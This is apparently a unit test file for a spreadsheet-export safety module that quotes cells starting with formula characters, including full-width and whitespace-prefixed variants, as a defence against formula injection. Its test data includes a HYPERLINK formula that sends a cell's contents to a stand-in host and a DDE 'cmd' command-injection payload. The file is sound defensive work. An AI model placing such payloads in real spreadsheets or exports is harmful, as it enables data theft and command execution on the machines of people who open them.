import { describe, expect, test } from 'vitest';
import { neutraliseCell, neutraliseRow } from '$lib/domain/spreadsheet-safety';

describe('neutraliseCell', () => {
	test.each([
		['=1+1', "'=1+1"],
		[
			'=HYPERLINK("http://evil.example/?"&A1,"Click")',
			'\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
		],
		["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
		['+44 20 7946 0000', "'+44 20 7946 0000"],
		['-2+3+cmd|x', "'-2+3+cmd|x"],
		['@SUM(A1:A9)', "'@SUM(A1:A9)"],
		['\t=1+1', "'\t=1+1"],
		['\tindented', "'\tindented"],
		['\r=1+1', "'\r=1+1"],
		['\0=1+1', "'\0=1+1"]
	])('prefixes a cell starting with a formula character: %j', (value, expected) => {
		expect(neutraliseCell(value)).toBe(expected);
	});

	test('a negative number typed as text is neutralised, because text cannot be told from a formula', () => {
		// Numeric columns are written as numbers; "-5" only arrives as a string from free text.
		expect(neutraliseCell('-5')).toBe("'-5");
	});

	test.each([
		['  =1+1', "'  =1+1"],
		[' -5', "' -5"],
		['\n@SUM(A1)', "'\n@SUM(A1)"],
		['\u00a0+1', "'\u00a0+1"],
		['\u3000=1+1', "'\u3000=1+1"]
	])('looks past leading whitespace, which some importers trim: %j', (value, expected) => {
		expect(neutraliseCell(value)).toBe(expected);
	});

	test.each([
		['＝1+1', "'＝1+1"],
		['＋44', "'＋44"],
		['－5', "'－5"],
		['＠SUM(A1)', "'＠SUM(A1)"],
		['﹦1+1', "'﹦1+1"],
		[' ＝1+1', "' ＝1+1"]
	])('treats full-width and small-form signs as formula characters: %j', (value, expected) => {
		expect(neutraliseCell(value)).toBe(expected);
	});

	test.each([
		'',
		'The repair was done on time',
		'   plenty of room',
		'a=b',
		'5-3',
		'housing@example.org',
		"'=already quoted",
		'£12.50'
	])('leaves text that cannot start a formula alone: %j', (value) => {
		expect(neutraliseCell(value)).toBe(value);
	});
});

describe('neutraliseRow', () => {
	test('neutralises strings and leaves typed values as they are', () => {
		const when = new Date('2025-03-01T09:30:00Z');
		const row = neutraliseRow([
			42,
			-5,
			7.5,
			true,
			false,
			null,
			undefined,
			when,
			'-5',
			'=1+1',
			'Fine'
		]);
		expect(row).toEqual([42, -5, 7.5, true, false, null, undefined, when, "'-5", "'=1+1", 'Fine']);
		// The same Date object, not a copy turned into text.
		expect(row[7]).toBe(when);
	});

	test('writes anything else through its text form, neutralised', () => {
		const sneaky = { toString: () => '=1+1' };
		expect(neutraliseRow([sneaky, ['a', 'b']])).toEqual(["'=1+1", 'a,b']);
	});

	test('does not change the row it was given', () => {
		const row = ['=1+1', 3];
		neutraliseRow(row);
		expect(row).toEqual(['=1+1', 3]);
	});
});
